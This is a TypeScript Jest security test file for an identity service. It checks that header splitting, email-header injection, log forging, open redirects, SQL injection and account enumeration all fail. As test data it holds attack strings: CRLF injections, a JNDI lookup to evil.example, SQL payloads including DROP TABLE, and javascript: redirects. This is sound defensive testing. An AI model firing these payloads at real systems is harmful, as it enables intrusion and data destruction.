import { jest } from '@jest/globals';
import { ask } from '../../apps/identity/test/browser.js';
import { bearer, expectStatus, post, Stack, until } from '../stack.js';
import { routesOfIdentity } from './api.js';
import { exchange } from './raw.js';

jest.setTimeout(240_000);

const ANN = 'ann@example.test';
/** A line of a log that nobody wrote, and what a terminal would obey. */
const LEVELS = new Set<unknown>(['trace', 'debug', 'info', 'warn', 'error', 'fatal']);
const FORGED_LINE = '{"level":"info","name":"forged","msg":"access granted"}';
const FORM = 'application/x-www-form-urlencoded';
const EVIL = [
  `a\n${FORGED_LINE}\n`,
  `a\r\n${FORGED_LINE}`,
  `","name":"forged","x":"`,
  '\u001b[2J\u001b]0;owned\u0007',
  '\u009b31m',
  'a\u2028b\u2029c\u0085',
  '%0d%0aset-cookie: evil=1',
  '${jndi:ldap://evil.example/a}',
  '%s%n%d {} {0}',
];

let stack: Stack;
let account: { email: string; password: string };
let token: string;
beforeAll(async () => {
  stack = await Stack.start();
  account = await stack.addAccount(ANN);
  token = await stack.signIn(account);
});
afterAll(() => stack.stop());

describe('what a client says ends up in no header of an answer', () => {
  const SPLIT = [
    '%0d%0aset-cookie:%20evil=1',
    '%0aset-cookie:%20evil=1',
    '%0d%0a%0d%0a<script>',
    '%E5%98%8A%E5%98%8Dset-cookie:%20evil=1',
  ];

  it.each(['gateway', 'public', 'service', 'operator', 'orders', 'payments'])(
    '%s: not from its path, its query, its host or its request id',
    async (at) => {
      const port = stack.ports[at]!;
      for (const text of SPLIT) {
        const raw = decodeURIComponent(text).replaceAll(/[\r\n]/g, '');
        for (const bytes of [
          `GET /orders/${text}?cursor=${text}&limit=${text} HTTP/1.1\r\nhost: x`,
          `GET /auth/sessions?cursor=${text} HTTP/1.1\r\nhost: x`,
          `GET /auth/me HTTP/1.1\r\nhost: ${text}\r\nx-forwarded-host: ${text}\r\nforwarded: host=${text}`,
          `GET /auth/me HTTP/1.1\r\nhost: x\r\nx-request-id: ${text}\r\ntraceparent: ${text}`,
          `GET /.well-known/oauth-authorization-server HTTP/1.1\r\nhost: evil.example\r\nx-forwarded-host: evil.example\r\norigin: https://evil.example\r\nx: ${raw}`,
        ]) {
          const { text: answer } = await exchange(
            port,
            `${bytes}\r\nauthorization: Bearer ${token}\r\nconnection: close\r\n\r\n`,
            2_000,
          );
          const [headers = '', body = ''] = answer.split('\r\n\r\n');
          expect(headers).toMatch(/^HTTP\/1\.1 \d{3} /);
          expect(headers).not.toMatch(/evil|script|%0d|%0a/i);
          expect(body).not.toMatch(/evil\.example|<script>/);
        }
      }
    },
  );

  it('nor of a message: who it is for and what it is about are of one line, and one address', async () => {
    const before = stack.messagesTo('').length;
    for (const email of [
      `${ANN}\r\nBcc: evil@example.test`,
      `${ANN}\nSubject: evil`,
      `${ANN},evil@example.test`,
      `${ANN}%0d%0aBcc:evil@example.test`,
      `"evil@example.test>\r\n"@example.test`,
      `${ANN}\u2028Bcc: evil@example.test`,
      `evil@example.test\u0000@example.test`,
    ]) {
      for (const path of ['/auth/register', '/auth/password-reset']) {
        const answer = await post(stack.url('gateway', path), { email });
        expect([email, path, answer.status]).toEqual([email, path, 400]);
      }
    }
    // What a name of a device holds, a message about it does not.
    for (const device_name of EVIL) {
      const login = { ...account, device_name };
      expect([200, 400]).toContain((await post(stack.url('gateway', '/auth/login'), login)).status);
    }
    await expectStatus(202, post(stack.url('gateway', '/auth/password-reset'), { email: ANN }));
    await until(() => stack.messagesTo(ANN).length > 1, 30_000);
    for (const message of stack.messagesTo(ANN)) {
      const [head = ''] = message.split('\n\n');
      expect(head.split('\n').map((line) => line.split(':')[0])).toEqual(['To', 'Subject', 'Date']);
      expect(message).not.toMatch(/evil/i);
    }
    expect(before).toBe(0);
  });
});

describe('nobody is sent anywhere', () => {
  const PARAMETERS = [
    'next',
    'redirect',
    'redirect_uri',
    'return_to',
    'returnUrl',
    'url',
    'continue',
    'to',
    'dest',
    'callback',
    'post_logout_redirect_uri',
    'RelayState',
  ];
  const PLACES = [
    'https://evil.example/',
    '//evil.example',
    '/\\evil.example',
    'javascript:alert(1)',
  ];

  it('by no route of identity, whatever a parameter names', async () => {
    const routes = await routesOfIdentity(stack);
    expect(routes.length).toBeGreaterThan(50);
    for (const { listener, method, path } of routes.filter(
      ({ path }) => path !== '/revocations/feed',
    )) {
      for (const place of PLACES) {
        const query = PARAMETERS.map((name) => `${name}=${encodeURIComponent(place)}`).join('&');
        const answer = await ask(
          stack.url(listener),
          method,
          `${path.replace(/\{\w+\}/g, 'x')}?${query}`,
          {},
        );
        const where = [
          listener,
          method,
          path,
          answer.status,
          answer.headers.location,
          answer.headers['refresh'],
        ];
        expect(where).toEqual([listener, method, path, expect.any(Number), undefined, undefined]);
        expect(answer.status < 300 || answer.status >= 400).toBe(true);
        expect(JSON.stringify(answer.body)).not.toContain('evil.example');
      }
    }
  });

  it.each(['gateway', 'orders', 'payments', 'public'])('by no address of %s', async (at) => {
    for (const target of [
      '//evil.example',
      '//evil.example/%2e%2e',
      '/%5cevil.example',
      '/orders/',
      '/orders//',
      '/auth',
      '/auth/',
      '/.well-known',
      '/%2f%2fevil.example',
      '/orders?x=//evil.example',
    ]) {
      const bytes = `GET ${target} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n`;
      const { text, statuses } = await exchange(stack.ports[at]!, bytes, 2_000);
      expect([target, statuses.some((status) => status >= 300 && status < 400)]).toEqual([
        target,
        false,
      ]);
      expect(text).not.toMatch(/^location:/im);
    }
  });
});

describe('what a client says stays inside of its line of the log', () => {
  const NAMES = ['identity', 'orders', 'payments', 'gateway'];

  it('in whatever place it is said', async () => {
    for (const evil of EVIL) {
      const encoded = encodeURIComponent(evil);
      await Promise.all(
        ['gateway', 'public', 'orders', 'operator', 'service'].map(async (at) => {
          const where = `/${encoded}?q=${encoded}`;
          await ask(stack.url(at), 'GET', where, {
            headers: ['referer', encoded, 'x-request-id', encoded],
          });
          await post(stack.url(at, '/auth/login'), {
            email: `${evil}@example.test`,
            password: evil,
          });
          await post(stack.url(at, '/auth/login'), {
            ...account,
            device_name: evil,
            client_id: evil,
          });
          await post(stack.url(at, '/auth/refresh'), { refresh_token: evil });
          await post(stack.url(at, '/orders'), { item: evil, amount_cents: 1 }, bearer(token));
          const basic = `Basic ${Buffer.from(`${evil}:${evil}`).toString('base64')}`;
          const form = new URLSearchParams({ grant_type: evil, token: evil }).toString();
          const headers = ['authorization', basic, 'content-type', FORM];
          for (const path of ['/oauth/token', '/oauth/revoke', '/oauth/introspect'])
            await ask(stack.url(at), 'POST', path, { headers, body: form });
          const header = Buffer.from(JSON.stringify({ alg: evil, kid: evil, typ: evil })).toString(
            'base64url',
          );
          await ask(stack.url(at), 'GET', '/auth/me', {
            headers: ['authorization', `Bearer ${header}.e30.x`],
          });
          // As bytes, since no client library would send them.
          const bytes = `GET /auth/me HTTP/1.1\r\nhost: x\r\nuser-agent: ${Buffer.from(evil.replaceAll(/[\r\n]/g, '')).toString('latin1')}\r\nx-forwarded-for: ${evil.replaceAll(/[\r\n]/g, '')}\r\nconnection: close\r\n\r\n`;
          await exchange(stack.ports[at]!, bytes, 1_000);
        }),
      );
    }
    const lines = stack
      .logs()
      .split('\n')
      .filter((line) => line !== '');
    expect(lines.length).toBeGreaterThan(300);
    const wrong = lines.filter((line) => {
      if (/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(line)) return true;
      const { name, level } = JSON.parse(line) as { name: string; level?: string };
      return !NAMES.includes(name) || !LEVELS.has(level);
    });
    expect(wrong).toEqual([]);
  });
});

it('what people send is never SQL', async () => {
  const SQL = [
    `' OR '1'='1`,
    `'; SELECT pg_sleep(5); --`,
    `x' UNION SELECT current_user --`,
    `\\'; DROP TABLE accounts; --`,
    '$1',
    `ann@example.test' AND pg_sleep(5) IS NULL --`,
  ];
  const operator = bearer(await stack.addOperator('olga', ['read', 'end-sessions', 'keys']));
  const origin = stack.url('public');
  const start = performance.now();
  for (const sql of SQL) {
    const encoded = encodeURIComponent(sql);
    const asks = [
      post(`${origin}/auth/login`, { email: ANN, password: sql }),
      post(`${origin}/auth/login`, { email: sql, password: account.password }),
      post(`${origin}/auth/login`, { ...account, client_id: sql }),
      post(`${origin}/auth/email/verify`, { token: sql, password: 'a long password' }),
      post(`${origin}/auth/refresh`, { refresh_token: `${sql}.0.x` }),
      fetch(`${origin}/auth/sessions?cursor=${encoded}`, { headers: bearer(token) }),
      fetch(`${origin}/auth/sessions/${encoded}`, { method: 'DELETE', headers: bearer(token) }),
      fetch(stack.url('operator', `/operator/audit?account=${encoded}`), { headers: operator }),
      fetch(stack.url('operator', `/operator/clients/${encoded}`), { headers: operator }),
      fetch(stack.url('operator', `/operator/revocations?kind=sid&id=${encoded}`), {
        headers: operator,
      }),
      post(stack.url('operator', '/operator/sessions/end'), { email: sql }, operator),
    ];
    for (const answer of await Promise.all(asks)) {
      const text = await answer.text();
      // A search may find nothing; nothing else is a success.
      expect([
        sql,
        answer.status < 400 ? text.includes('"items":[]') : answer.status < 500,
      ]).toEqual([sql, true]);
      expect(text).not.toMatch(/syntax|relation|pg_|current_user/i);
    }
  }
  expect(performance.now() - start).toBeLessThan(25_000);
  expect((await fetch(`${origin}/auth/me`, { headers: bearer(token) })).status).toBe(200);
});

describe('who has an account', () => {
  /** Everything of an answer but what differs by chance. */
  const answerOf = async (answer: Response) => {
    const headers = [...answer.headers].filter(
      ([name]) => !['date', 'x-request-id'].includes(name),
    );
    return {
      status: answer.status,
      headers,
      body: (await answer.text()).replaceAll(/[\w-]{36}/g, '<id>'),
    };
  };

  it('is told by no answer: not by its status, its headers or its text', async () => {
    const asks: [string, (email: string) => unknown][] = [
      ['/auth/register', (email) => ({ email })],
      ['/auth/password-reset', (email) => ({ email })],
      ['/auth/login', (email) => ({ email, password: 'wrong' })],
      ['/auth/login', (email) => ({ email, password: 'wrong', delivery: 'cookie' })],
      ['/auth/login', (email) => ({ email, password: 'wrong', client_id: 'first-party' })],
    ];
    await expectStatus(
      202,
      post(stack.url('public', '/auth/register'), { email: 'unverified@example.test' }),
    );
    const headers = { origin: stack.url('gateway') };
    for (const at of ['public', 'gateway']) {
      for (const [path, body] of asks) {
        const [known, unverified, nobody] = await Promise.all(
          [ANN, 'unverified@example.test', 'nobody@example.test'].map(async (email) =>
            answerOf(await post(stack.url(at, path), body(email), headers)),
          ),
        );
        expect([path, known]).toEqual([path, nobody]);
        expect([path, unverified]).toEqual([path, nobody]);
      }
    }
  });

  it('nor by a change of an address to one that somebody has', async () => {
    const change = (email: string) =>
      post(
        stack.url('public', '/auth/email/change'),
        { email, current_password: account.password },
        bearer(token),
      );
    await stack.addAccount('bob@example.test');
    const [taken, free] = [
      await answerOf(await change('bob@example.test')),
      await answerOf(await change('free@example.test')),
    ];
    expect(taken).toEqual(free);
  });
});
